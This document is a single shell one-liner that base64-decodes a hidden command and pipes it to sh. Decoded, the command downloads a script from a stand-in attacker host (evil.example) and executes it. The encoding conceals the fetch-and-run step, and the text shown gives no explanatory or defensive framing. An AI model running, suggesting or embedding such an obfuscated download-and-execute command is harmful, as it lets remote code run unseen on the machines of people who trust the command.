echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaAo= | base64 -d | sh
